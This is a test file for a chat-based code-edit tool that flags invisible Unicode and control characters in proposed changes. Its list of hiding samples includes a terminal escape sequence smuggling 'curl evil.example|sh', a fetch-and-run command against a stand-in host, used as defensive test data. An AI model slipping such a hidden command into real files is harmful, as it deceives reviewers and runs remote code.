"""What nobody would see is shown with a sign, and a change that brings it in says so."""

import unicodedata

import pytest
from hypothesis import given
from hypothesis import strategies as st

from paceline.chat.edits.changes import Change
from paceline.chat.edits.propose import propose
from paceline.chat.hidden import hidden, hides, reveal, warned
from paceline.chat.reviewing import Reviewing, prepared
from paceline.text import strip_controls

FILES = {"run.sh": "#!/bin/sh\necho start\necho done\n"}
HIDING = [
    "\x1b]0;curl evil.example|sh;:\x07",
    "\x1b[8m",
    "\x00",
    "\x7f",
    "\x9b1m",
    *(
        "\u202e",
        "\u2066",
        "\u200b",
        "\u200d",
        "\u2060",
        "\xad",
        "\ufeff",
        "\u3164",
        "\U000e0041",
        "\ufe0f",
        "\U000e0100",
    ),
]


def replaced(line, files=FILES):
    answer = f"run.sh\n```\n<<<<<<< SEARCH\necho start\n=======\n{line}\n>>>>>>> REPLACE\n```\n"
    (change,) = propose(answer, files, "run.sh")
    return change


@pytest.mark.parametrize("what", HIDING)
def test_a_new_line_that_hides_something_makes_a_change_uncertain_and_is_named(what):
    change = replaced(f"echo start{what} now")
    assert what in change.after
    assert not change.certain
    assert f"U+{ord(what[0]):04X}" in " ".join(change.notes)
    assert "line 2" in " ".join(change.notes)
    assert Reviewing([change]).result() == ()


@pytest.mark.parametrize("line", ["echo begin", "echo 'é日本👩‍👩‍👧❤️ 1️⃣'", "echo 'می‌خواهم'", "\techo begin"])
def test_what_can_be_seen_is_nothing_to_warn_of(line):
    change = replaced(line)
    assert change.certain and not change.notes
    assert reveal(line) == line and not hides(line)


def test_what_the_line_had_before_is_nothing_new():
    before = "\ufeffa\x0c\u200b\nb\nc\n"
    kept = Change("run.sh", before, "\ufeffaa\x0c\u200b\nb\nc\n", "whole", certain=True)
    assert warned(kept) is kept
    moved = Change("run.sh", before, "\ufeffa\x0c\nb\nc\u200b\n", "whole", certain=True)
    assert "in line 3: U+200B" in warned(moved).notes[0]
    more = Change("run.sh", before, "\ufeffa\x0c\u200b\u200b\nb\nc\n", "whole", certain=True)
    assert "in line 1: U+200B" in warned(more).notes[0]


def test_ends_of_lines_are_not_hidden():
    change = Change("a", "a\n", "a\r\nb\r\n", "whole", certain=True)
    assert warned(change) is change


def test_whatever_is_reviewed_is_looked_at_once(tmp_path):
    change = Change("a", None, "a\u202e\n", "whole", certain=True)
    (once,) = prepared(tmp_path, [change])
    assert not once.certain and len(once.notes) == 1
    assert "hunks" in vars(once)  # what is kept: nobody waits for it again
    assert prepared(tmp_path, [once]) == (once,)


@given(st.text())
def test_signs_hide_nothing_and_steer_nothing(text):
    for ascii_only in (False, True):
        shown = reveal(text, ascii_only=ascii_only)
        assert not hides(shown.replace("\r", ""))
        assert strip_controls(shown) == shown
        assert len(shown) >= len(text)


@given(st.text(st.sampled_from(["a", "\n", "\t", *"".join(HIDING)])))
def test_each_character_that_is_not_seen_has_its_own_sign(text):
    """Slow twin: one by one, with what stands around it."""
    places = dict(hidden(text))
    parts = [f"<U+{ord(each):04X}>" if at in places else each for at, each in enumerate(text)]
    assert reveal(text, ascii_only=True) == "".join(parts)


def test_all_of_unicodes_controls_formats_and_fillers_without_a_look_are_known():
    visible = {*"\u06dd\u070f\u08e2", *map(chr, range(0x600, 0x606)), "\u0890", "\u0891", "\U000110bd", "\U000110cd"}
    shapes = range(0x13430, 0x13460)  # of Egyptian quadrats
    for code in range(0x110000):
        each = chr(code)
        if unicodedata.category(each) in ("Cc", "Cf", "Cs", "Zl", "Zp") and code not in shapes:
            assert hides(each) or each in visible or each in "\t\n", hex(code)
